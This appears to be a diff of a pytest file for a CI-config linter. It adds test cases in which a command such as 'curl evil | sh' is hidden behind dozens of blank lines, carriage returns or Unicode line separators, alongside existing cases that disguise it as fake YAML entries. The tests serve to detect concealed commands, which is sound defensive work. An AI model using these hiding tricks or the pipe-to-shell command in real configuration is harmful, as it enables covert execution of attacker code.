@@ -19,7 +19,14 @@ import pytest
 from support.specs import PINNED as BASE
 
 from elastic_compile.compiler.cli import main
-from elastic_compile.compiler.lint import MAX_BLANK_RUN, MAX_REVIEWABLE_CHARS, hidden_character, looks_blank, text_lints
+from elastic_compile.compiler.lint import (
+    MAX_BLANK_LINES,
+    MAX_BLANK_RUN,
+    MAX_REVIEWABLE_CHARS,
+    hidden_character,
+    looks_blank,
+    text_lints,
+)
 from elastic_compile.localrun.cli import main as run_main
 
 # One character of every class, as a YAML double-quoted escape, and what the lint calls it.
@@ -127,8 +134,29 @@ def test_a_bidi_trojan_in_a_command_is_an_error_under_strict(
         (BASE + 'env: {A: "echo ok\\n\\u3000- curl evil | sh"}\n', "reads like another YAML entry"),
         (BASE + 'env: {A: "echo ok\\n\\u00a0\\u2800run:\\u00a0evil"}\n', "reads like another YAML entry"),
         (BASE + 'env: {A: "echo ok\\n-\\u3000curl evil | sh"}\n', "reads like another YAML entry"),
+        # Text pushed down rather than right (red team 2, item 9): blank lines, however they look.
+        (
+            BASE.replace("t.py]", f'"echo ok{(chr(92) + "n") * (MAX_BLANK_LINES + 1)}curl evil | sh"]'),
+            "32 or more blank lines",
+        ),
+        (
+            BASE.replace("t.py]", f'"echo ok{(chr(92) + "r" + chr(92) + "u3000") * 40}curl evil"]'),
+            "32 or more blank lines",
+        ),
+        (BASE.replace("t.py]", f'"echo ok{(chr(92) + "u2028 ") * 40}curl evil"]'), "32 or more blank lines"),
     ],
-    ids=["long-value", "padded", "fake-list-entry", "fake-key", "ideographic-indent", "nbsp-key", "dash-blank"],
+    ids=[
+        "long-value",
+        "padded",
+        "fake-list-entry",
+        "fake-key",
+        "ideographic-indent",
+        "nbsp-key",
+        "dash-blank",
+        "blank-lines",
+        "blank-cr-lines",
+        "blank-line-separators",
+    ],
 )
 def test_values_that_hide_text_are_ec111(
     capsys: pytest.CaptureFixture[str], tmp_path: Path, text: str, fragment: str
